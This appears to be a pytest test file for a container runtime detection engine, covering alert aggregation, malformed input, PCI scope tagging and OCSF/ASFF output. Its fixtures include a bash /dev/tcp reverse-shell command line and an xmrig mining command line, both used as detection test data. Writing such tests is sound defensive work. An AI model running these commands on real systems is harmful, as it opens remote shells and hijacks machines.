"""Engine behaviour: fast path equals the dict path, aggregation, hostile input, scope, formats."""

from __future__ import annotations

import random
from collections import Counter
from pathlib import Path
from typing import Any

import orjson
import pytest

from ecsguard.runtime import Engine, load_engine
from ecsguard.runtime.alerts import to_asff, to_ocsf
from ecsguard.runtime.examples import build_event
from ecsguard.sample.runtime.generate import stream

REVERSE = {
    "class_uid": 1007,
    "process": {"name": "bash", "cmd_line": "bash -i >& /dev/tcp/203.0.113.7/443 0>&1"},
    "actor": {"process": {"name": "java"}},
}


@pytest.fixture(scope="module")
def lines() -> list[bytes]:
    return [orjson.dumps(ev) for ev, _ in stream(6000, 12, seed=99)]


def _summary(alerts: list[Any]) -> Counter[tuple[str, str, int]]:
    return Counter((a.rule_id, a.event_uids[0], a.count) for a in alerts)


def test_fast_path_gives_the_same_alerts_as_the_dict_path(lines: list[bytes]) -> None:
    fast, slow = load_engine(), load_engine()
    assert fast._slim is not None
    got_fast = [a for line in lines for a in fast.process_line(line)] + fast.flush()
    got_slow = [a for line in lines for a in slow.process(orjson.loads(line))] + slow.flush()
    assert got_fast and _summary(got_fast) == _summary(got_slow)


def test_aggregation_counts_repeats_within_the_window() -> None:
    engine = load_engine(window_ms=60_000)
    for i in range(5):
        assert engine.process(build_event(REVERSE, i, time_ms=1_000_000 + i * 1000)) == []
    later = engine.process(
        build_event(
            {"class_uid": 1001, "file": {"path": "/etc/hosts"}}, 9, time_ms=1_000_000 + 120_000
        )
    )
    (alert,) = later
    assert alert.count == 5 and len(alert.event_uids) == 5
    assert alert.to_dict()["first_seen"] < alert.to_dict()["last_seen"]
    assert engine.flush() == []


def test_hostile_values_are_counted_not_raised() -> None:
    engine = load_engine(window_ms=0)
    weird: list[dict[str, Any]] = [
        {"class_uid": "1007"},
        {"class_uid": [1007]},
        {"class_uid": 1007, "process": "bash"},
        {"class_uid": 1007, "process": {"name": 5, "cmd_line": ["x"], "file": "y"}, "actor": 7},
        {"class_uid": 1001, "file": {"path": {"a": 1}}, "activity_id": "3"},
        {"class_uid": 4001, "dst_endpoint": {"ip": 12, "port": "x"}, "connection_info": []},
        {"class_uid": 4003, "query": {"hostname": None}, "answers": "nope"},
        {"class_uid": 99999},
        {},
    ]
    for event in weird:
        engine.process(event)
        engine.process_line(orjson.dumps(event))
    for line in (b"{not json", b"\xff\xfe\x00", b"[1,2]", b'"x"', b"", b"{}" * 3):
        engine.process_line(line)
    assert engine.stats.events == 2 * len(weird)
    assert engine.stats.unknown_class == 8
    assert engine.stats.malformed == 6
    assert engine.stats.type_errors > 0
    assert [a.rule_id for a in engine.process(build_event(REVERSE))] == [
        "ecsguard.exec.reverse_shell_cmdline"
    ]


def test_scope_raises_cde_severity_and_tags(tmp_path: Path) -> None:
    scope = tmp_path / "scope.json"
    scope.write_bytes(
        orjson.dumps(
            {
                "ecsguard_scope": 1,
                "components": [
                    {
                        "id": "arn:aws:ecs:us-east-1:123456789012:service/payments/payment-api",
                        "kind": "service",
                        "name": "payment-api",
                        "category": "cde",
                        "reasons": [],
                    },
                    {
                        "id": "web",
                        "kind": "service",
                        "name": "web",
                        "category": "connected-to",
                        "reasons": [],
                    },
                ],
            }
        )
    )
    engine = load_engine(scope=scope, window_ms=0)
    (alert,) = engine.process(
        build_event(
            {
                "class_uid": 1007,
                "process": {"name": "tcpdump", "cmd_line": "tcpdump -i any"},
                "actor": {"process": {"name": "bash"}},
            }
        )
    )
    assert alert.severity == "medium"  # low raised one level
    assert alert.pci_category == "cde" and "pci:cde" in alert.tags


def test_alert_shapes() -> None:
    engine: Engine = load_engine(window_ms=0)
    (alert,) = engine.process(build_event(REVERSE))
    doc = alert.to_dict()
    for key in (
        "id",
        "time",
        "rule_id",
        "finding_type",
        "severity",
        "title",
        "event_uids",
        "resource",
        "process",
        "detail",
        "mitre",
    ):
        assert key in doc
    assert doc["resource"]["cluster"] == "payments" and doc["resource"]["task_arn"].startswith(
        "arn:aws:ecs:"
    )
    assert doc["process"]["ancestors"] == ["java"]
    ocsf = to_ocsf(alert)
    assert (ocsf["class_uid"], ocsf["type_uid"], ocsf["finding_info"]["types"]) == (
        2004,
        200401,
        [alert.finding_type],
    )
    asff = to_asff(alert)
    for key in (
        "SchemaVersion",
        "Id",
        "ProductArn",
        "GeneratorId",
        "AwsAccountId",
        "CreatedAt",
        "UpdatedAt",
        "Title",
        "Description",
        "Resources",
    ):
        assert asff[key]
    assert asff["AwsAccountId"] == "123456789012" and asff["Severity"]["Label"] == "HIGH"


def test_memory_state_is_bounded() -> None:
    engine = load_engine()
    engine.state.cap = 100
    rng = random.Random(1)
    for i in range(2000):
        engine.process(
            build_event(
                {
                    "class_uid": 1007,
                    "process": {"pid": 10_000 + i, "name": "x"},
                    "actor": {"process": {"pid": rng.randint(1, 10**6), "name": "y"}},
                },
                i,
            )
        )
        engine.process(
            build_event({"class_uid": 1001, "activity_id": 1, "file": {"path": f"/tmp/f{i}"}}, i)
        )
    assert len(engine.state.procs) <= 101 and len(engine.state.written) <= 101


def test_secrets_in_command_lines_never_reach_alerts() -> None:
    engine = load_engine(window_ms=0)
    event = build_event(
        {
            "class_uid": 1007,
            "actor": {"process": {"name": "sh"}},
            "process": {
                "name": "xmrig",
                "cmd_line": "xmrig -o pool.minexmr.com:4444 --password=Hunter2Secret",
            },
        }
    )
    (alert,) = engine.process(event)
    blob = orjson.dumps([alert.to_dict(), to_ocsf(alert), to_asff(alert)])
    assert b"Hunter2Secret" not in blob and b"--password=***" in blob


def test_asff_validates_against_the_security_hub_api_model() -> None:
    import botocore.session
    from botocore.validate import ParamValidator

    model = botocore.session.get_session().get_service_model("securityhub")
    shape = model.operation_model("BatchImportFindings").input_shape
    engine = load_engine(window_ms=0)
    (alert,) = engine.process(build_event(REVERSE))
    report = ParamValidator().validate({"Findings": [to_asff(alert)]}, shape)
    assert not report.has_errors(), report.generate_report()
